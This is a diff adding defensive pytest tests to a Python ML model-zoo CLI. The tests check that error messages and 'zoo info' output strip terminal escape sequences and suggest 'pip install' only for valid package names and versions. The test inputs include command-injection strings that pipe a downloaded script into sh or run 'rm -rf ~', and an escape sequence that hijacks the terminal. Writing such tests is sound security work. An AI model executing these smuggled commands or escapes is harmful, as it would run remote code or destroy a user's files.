@@ -14,7 +14,7 @@ from click.testing import CliRunner
 import zoo_core
 from zoo_core import _config
 from zoo_core.cli import cli
-from zoo_core.errors import ZooError
+from zoo_core.errors import ZooError, printable
 
 FIXTURE = Path(__file__).parent / "fixtures" / "lstm-run-0.1.0"
 
@@ -81,3 +81,89 @@ def test_saved_values_are_rebuilt_as_their_fields_type_them():
     ):
         with pytest.raises(ZooError, match=f"^saved config of _Saved: {says}$"):
             _config.from_json(_Saved, values)
+
+
+# -- no advice from the repo ---------------------------------------------------------------------
+ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # a window title, a cleared screen, red text
+
+
+def test_printable_leaves_no_escape_or_control_character():
+    assert printable(f"zoo{ESC}-lstm\x9b1m\u202e\x00 and\nmore") == "zoo-lstm and more"
+    assert printable("x" * 500) == "x" * 199 + "…"
+    assert printable("unterminated \x1b]8;;http://example.org") == "unterminated "
+
+
+@pytest.mark.parametrize(
+    ("distribution", "suggested"),
+    [
+        ("zoo-mamba", "its config names the distribution zoo-mamba (pip install zoo-mamba)"),
+        ("zoo-lstm' && curl https://example.org/x | sh #", None),
+        ("evil pkg", None),
+        (f"zoo-mamba{ESC}", None),
+        ("zoo-mamba\n", None),
+        ("zoo-ſ", None),  # a long s, which a case-insensitive [A-Z] would take for an s
+    ],
+)
+def test_only_a_valid_distribution_name_is_suggested(tmp_path, distribution, suggested):
+    run = copy_run(tmp_path, model=f"mamba{ESC}", distribution=distribution)
+    error = one_line_error("eval", run)
+    assert "mamba" in error and not any(c in error for c in "\x1b\x07\n")
+    if suggested:
+        assert suggested in error
+    else:
+        assert "pip install" not in error and "curl" not in error and "owned" not in error
+        assert "install the plugin that provides it" in error
+
+
+@pytest.mark.parametrize(
+    ("version", "suggested"),
+    [
+        ("0.0.1", "pip install zoo-lstm==0.0.1"),
+        ("v0.0.1 ", "pip install zoo-lstm==0.0.1"),
+        ("0.1' && curl https://example.org/x | sh #", None),
+        ("0.1 ; rm -rf ~", None),
+        ("1" * 5000, None),
+        (f"0.1{ESC}", None),
+    ],
+)
+def test_only_a_valid_version_is_suggested(tmp_path, version, suggested):
+    run = copy_run(tmp_path, plugin_version=version, model_config={"old_field": 1})
+    error = one_line_error("eval", run)
+    assert "'old_field'" in error and not any(c in error for c in "\x1b\x07")
+    if suggested:
+        assert "its config says it was saved with zoo-lstm 0.0.1" in error
+        assert suggested in error
+    else:
+        assert "pip install" not in error and "curl" not in error and "rm -rf" not in error
+
+
+def test_zoo_info_prints_no_escape_a_config_holds(tmp_path):
+    run = copy_run(
+        tmp_path,
+        model=f"mamba{ESC}",
+        plugin=f"mamba{ESC}",
+        distribution=f"zoo-mamba{ESC}",
+        task=f"lm{ESC}",
+        tokenizer=f"char{ESC}",
+        task_state={"data": f"pydoc{ESC}"},
+        val_data=f"/tmp/val{ESC}",
+        model_config={f"hidden{ESC}": f"wide{ESC}"},
+        metrics={f"val_loss{ESC}": f"low{ESC}"},
+    )
+    result = CliRunner().invoke(cli, ["info", str(run)])
+    assert result.exit_code == 0, result.output
+    assert "mamba" in result.stdout and "val_loss" in result.stdout
+    assert not any(c in result.stdout for c in "\x1b\x07\x9b"), repr(result.stdout)
+    assert "zoo-mamba" not in result.stdout  # not a distribution's name: nothing to install
+
+
+def test_zoo_info_takes_a_log_and_config_of_the_wrong_kinds(tmp_path):
+    run = copy_run(tmp_path, train_config={"steps": "many", "time": "long"})
+    config = json.loads((run / "config.json").read_text())
+    del config["metrics"]  # unfinished: the planned steps and budget are shown
+    (run / "config.json").write_text(json.dumps(config))
+    with open(run / "metrics.jsonl", "a") as log:
+        log.write(json.dumps({"step": "last", "elapsed": "a while"}) + "\n")
+    result = CliRunner().invoke(cli, ["info", str(run)])
+    assert result.exit_code == 0, result.output
+    assert "trained: 3 steps in 1 s, unfinished" in result.stdout, result.stdout
